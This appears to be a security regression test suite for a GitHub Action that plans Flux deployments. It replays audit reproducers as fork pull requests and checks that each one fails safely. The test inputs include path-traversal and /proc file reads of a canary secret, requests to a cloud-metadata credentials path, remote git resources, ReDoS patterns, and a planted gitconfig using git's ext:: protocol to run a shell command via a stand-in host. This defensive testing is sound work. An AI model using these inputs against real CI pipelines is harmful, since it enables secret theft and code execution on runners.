// What a pull request's content can make a plan-only run do: the reproducers of the second
// security audit (S1 file writes and code execution, S2 file reads, S3 network requests, S6
// denial of service) as a fork's pull request, run through the bundled action the way the runner
// runs it. Every build runs in the sandboxed renderer: a canary file outside the repository never
// appears in the log, the summary, the outputs or a GitHub request; a loopback server playing an
// internal service sees no request; nothing is written outside the run; each attack is one clear
// problem, and the pull request's legitimate change is still planned.

import { randomBytes } from 'node:crypto'
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo, Socket } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { runAction, type ActionRun } from '../../test/support/action.ts'
import { bootstrapText, repositoryKustomization } from '../../test/support/flux.ts'
import { startGitHubApi, type GitHubApi } from '../../test/support/github-api.ts'
import { createRepo, type Repo } from '../../test/support/repo.ts'
import { workflowCommands } from '../../test/support/workflow-commands.ts'

vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 })

const outside = mkdtempSync(join(tmpdir(), 'hrt-outside-'))
const CANARY = `CANARY-${randomBytes(12).toString('hex')}`
const canaryFile = join(outside, 'runner-secret')
writeFileSync(canaryFile, `token: ${CANARY}\n`)

let repo: Repo
let base: string
let api: GitHubApi
let server: Server
let port = 0
const requests: string[] = []
const sockets = new Set<Socket>()

beforeAll(async () => {
  // An internal service, and a tarpit: it records every request and never answers one.
  server = createServer((req) => requests.push(`${req.method} ${req.url}`))
  server.on('connection', (socket) => {
    requests.push('connection')
    sockets.add(socket)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  port = (server.address() as AddressInfo).port
  api = await startGitHubApi()
  repo = createRepo('hrt-pr-content-')
  repo.write({
    'clusters/prod/flux-system/gotk-sync.yaml': bootstrapText('https://github.example/acme/fleet', './clusters/prod'),
    'clusters/prod/apps.yaml': repositoryKustomization('apps', './apps'),
    'apps/kustomization.yaml':
      'resources: [release.yaml]\nconfigMapGenerator: [{name: web-values, namespace: apps, files: [values.yaml], options: {disableNameSuffixHash: true}}]\n',
    'apps/release.yaml':
      'apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata: {name: web, namespace: apps}\nspec:\n  valuesFrom: [{kind: ConfigMap, name: web-values}]\n',
    'apps/values.yaml': 'replicas: 1\n',
  })
  base = repo.commit('the fleet')
})

afterAll(async () => {
  for (const socket of sockets) socket.destroy()
  await new Promise<void>((resolve) => server.close(() => resolve()))
  expect(api.violations).toEqual([])
  await api.close()
  repo.cleanup()
  rmSync(outside, { recursive: true, force: true })
})

/**
 * A pull request of `files` on top of the fleet (with the legitimate values change), run as a
 * fork's (nothing written to GitHub) or as a same-repository one (the plan posted): the run, and
 * every text it produced or sent.
 */
async function pullRequest(files: Record<string, string>, from: 'fork' | 'same' = 'fork'): Promise<{ run: ActionRun; everything: string }> {
  repo.git('checkout', '-q', '--detach', base)
  repo.write({ 'apps/values.yaml': 'replicas: 2\n', ...files })
  const head = repo.commit('a pull request')
  const number = 40 + api.requests.length
  if (from === 'same') api.addPullRequest(head, number)
  const before = api.requests.length
  const run = await runAction({
    workspace: repo.dir,
    eventName: 'pull_request',
    event: {
      number,
      pull_request: {
        number,
        base: { sha: base, repo: { full_name: 'acme/fleet' } },
        head: { sha: head, repo: { full_name: from === 'fork' ? 'mallory/fleet' : 'acme/fleet' } },
      },
    },
    sha: head,
    inputs: { 'github-token': 'ghs_pr_content', 'fail-on': 'never' },
    env: { GITHUB_API_URL: api.url },
  })
  const sent = api.requests.slice(before).map((r) => JSON.stringify(r.body ?? ''))
  return { run, everything: [run.stdout, run.stderr, run.summary, JSON.stringify(run.outputs), ...sent].join('\n') }
}

/** The plan output's releases and problems. */
function planOf(run: ActionRun): { releases: string[]; problems: string[] } {
  const plan = JSON.parse(run.outputs['plan'] ?? '{}') as { releases?: { namespace: string; name: string }[]; problems?: { message: string }[] }
  return { releases: (plan.releases ?? []).map((r) => `${r.namespace}/${r.name}`), problems: (plan.problems ?? []).map((p) => p.message) }
}

/** A Flux Kustomization of the pull request's own, building `path`. */
const stage = (name: string, path: string, spec: Record<string, unknown> = {}): string => repositoryKustomization(name, `./${path}`, spec)

function expectSafe(result: { run: ActionRun; everything: string }): void {
  expect(result.run.exitCode, result.run.stdout + result.run.stderr).toBe(0)
  expect(result.everything).not.toContain(CANARY)
  expect(requests).toEqual([])
  expect(workflowCommands(result.run.stdout).filter((c) => !['group', 'endgroup', 'notice', 'warning', 'error', 'debug', 'add-mask'].includes(c.name))).toEqual(
    [],
  )
  // The legitimate change is still planned.
  expect(planOf(result.run).releases).toEqual(['apps/web'])
}

describe('S2: a pull request reads no file of the runner', () => {
  it.each([
    ['an absolute path', () => canaryFile],
    // Up to the filesystem's root from wherever the build runs, then down to the file.
    ['a path up out of the checkout', () => `${'../'.repeat(32)}${canaryFile.slice(1)}`],
    ['a file of the runner process', () => '/proc/self/cwd/.git/config'],
  ])('through a configMapGenerator file: %s, substituted into an annotation a problem would quote', async (_name, path) => {
    const result = await pullRequest(
      {
        'clusters/prod/steal.yaml': stage('steal', 'steal', { postBuild: { substituteFrom: [{ kind: 'ConfigMap', name: 'loot' }] } }),
        'steal/kustomization.yaml': `resources: [cm.yaml]\nconfigMapGenerator: [{name: loot, namespace: flux-system, files: [x=${path()}], options: {disableNameSuffixHash: true}}]\n`,
        'steal/cm.yaml':
          'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: exfil\n  namespace: apps\n  labels: {nebius.ai/helmrelease-trigger-operator: "true"}\n  annotations: {nebius.ai/helmreleases-namespace: "${x}"}\ndata: {a: b}\n',
      },
      'same',
    )
    expectSafe(result)
    expect(planOf(result.run).problems.join('\n')).toMatch(
      /Flux Kustomization flux-system\/steal \(path \.\/steal\) does not build: .*(not in or below|no such file)/i,
    )
  })
})

describe('S3: a pull request makes no network request', () => {
  it.each([
    ['a resource URL', () => `resources: [http://127.0.0.1:${port}/latest/meta-data/iam/security-credentials/runner-role]`],
    ['a patch path URL', () => `resources: [cm.yaml]\npatches: [{path: "http://127.0.0.1:${port}/patch.yaml", target: {kind: ConfigMap}}]`],
    ['a CRD URL', () => `resources: [cm.yaml]\ncrds: [http://127.0.0.1:${port}/crd.yaml]`],
    ['a generator file URL (a server that never answers)', () => `configMapGenerator: [{name: loot, files: ["imds=http://127.0.0.1:${port}/never-answers"]}]`],
    ['a git:: resource', () => `resources: [cm.yaml, "git::http://127.0.0.1:${port}/evil.git"]`],
    ['an SCP-style resource', () => `resources: [cm.yaml, "git@127.0.0.1:evil/repo.git"]`],
    ['a github.com shorthand', () => `resources: [cm.yaml, "github.com/acme/shared/base?ref=v1"]`],
  ])('%s: that Kustomization is not rendered, naming the reference; the run ends and the rest is planned', async (_name, kustomization) => {
    const result = await pullRequest({
      'clusters/prod/fetch.yaml': stage('fetch', 'fetch'),
      'fetch/kustomization.yaml': `${kustomization()}\n`,
      'fetch/cm.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: local, namespace: apps}\ndata: {a: b}\n',
    })
    expectSafe(result)
    expect(result.run.summary).toMatch(/flux-system\/fetch/)
  })
})

describe('S1: a pull request writes no file and runs no process', () => {
  it('an ArtifactGenerator copy rule aimed outside the artifact is refused, and nothing is written there', async () => {
    const target = join(outside, 'written-by-a-fork')
    const home = join(outside, 'home')
    mkdirSync(home, { recursive: true })
    const up = '../'.repeat(24)
    const result = await pullRequest({
      'clusters/prod/ag.yaml': [
        'apiVersion: source.extensions.fluxcd.io/v1beta1',
        'kind: ArtifactGenerator',
        'metadata: {name: gen, namespace: flux-system}',
        'spec:',
        '  sources: [{alias: repo, kind: GitRepository, name: flux-system}]',
        '  artifacts:',
        '    - name: bundle',
        '      copy:',
        `        - {from: "@repo/payload/**", to: "@artifact/${up}${target.slice(1)}/"}`,
        `        - {from: "@repo/payload/gitconfig", to: "@artifact/${up}${home.slice(1)}/.gitconfig"}`,
        '---',
        'apiVersion: kustomize.toolkit.fluxcd.io/v1',
        'kind: Kustomization',
        'metadata: {name: bundle, namespace: flux-system}',
        'spec: {interval: 10m, path: ./, prune: true, sourceRef: {kind: ExternalArtifact, name: bundle}}',
        '',
      ].join('\n'),
      'payload/dropped.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: dropped}\n',
      'payload/gitconfig': `[protocol "ext"]\n\tallow = always\n[url "ext::sh -c touch% ${outside}/PWNED"]\n\tinsteadOf = https://pwn.example/\n`,
      'clusters/prod/stage2.yaml': stage('stage2', 'stage2'),
      'stage2/kustomization.yaml': 'resources: ["git::https://pwn.example/x.git"]\n',
    })
    expectSafe(result)
    expect(existsSync(target)).toBe(false)
    expect(existsSync(join(home, '.gitconfig'))).toBe(false)
    expect(existsSync(join(outside, 'PWNED'))).toBe(false)
    expect(planOf(result.run).problems.join('\n')).toContain('ArtifactGenerator copy rule to')
  })
})

describe('S6: a pull request cannot hold the run', () => {
  it('a substituteFrom name built to backtrack is one problem, never a pattern', async () => {
    const result = await pullRequest({
      'clusters/prod/redos.yaml': stage('redos', 'redos', {
        postBuild: {
          substituteFrom: [
            { kind: 'ConfigMap', name: '(x+x+)+y', optional: true },
            { kind: 'ConfigMap', name: 'bad(' },
          ],
        },
      }),
      'redos/cm.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: r, namespace: apps}\n# kind: ConfigMap\n# ${'x'.repeat(40)}y1\ndata: {a: "\${b:=c}"}\n`,
    })
    expectSafe(result)
    expect(planOf(result.run).problems.join('\n')).toContain("postBuild.substituteFrom names '(x+x+)+y', 'bad(', which is not a valid object name")
  })

  it('an ArtifactGenerator glob built to backtrack over a long file name ends', async () => {
    const result = await pullRequest({
      'clusters/prod/ag.yaml': [
        'apiVersion: source.extensions.fluxcd.io/v1beta1',
        'kind: ArtifactGenerator',
        'metadata: {name: gen, namespace: flux-system}',
        'spec:',
        '  sources: [{alias: repo, kind: GitRepository, name: flux-system}]',
        `  artifacts: [{name: globbed, copy: [{from: "@repo/${'**a'.repeat(30)}**b", to: "@artifact/"}]}]`,
      ].join('\n'),
      [`payload/${'a'.repeat(200)}.yaml`]: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n',
    })
    expectSafe(result)
  })

  it("substitution defaults nested thousands deep are Flux's own parser's to evaluate, and the run goes on", async () => {
    const nested = `${'${a:='.repeat(5_000)}x${'}'.repeat(5_000)}`
    const result = await pullRequest({
      'clusters/prod/deep.yaml': stage('deep', 'deep', { postBuild: { substitute: { b: 'c' } } }),
      'deep/cm.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: deep, namespace: apps}\ndata: {a: "${nested}"}\n`,
    })
    expectSafe(result)
    expect(`${result.run.stdout}${result.run.stderr}`).not.toMatch(/call stack|stack overflow|goroutine stack exceeds/i)
  })

  it('an endless source (/dev/zero) is "no such file"', async () => {
    const result = await pullRequest({
      'clusters/prod/zero.yaml': stage('zero', 'zero'),
      'zero/kustomization.yaml': 'configMapGenerator: [{name: z, files: [k=/dev/zero]}]\n',
    })
    expectSafe(result)
    expect(planOf(result.run).problems.join('\n')).toMatch(/flux-system\/zero .*does not build/)
  })
})
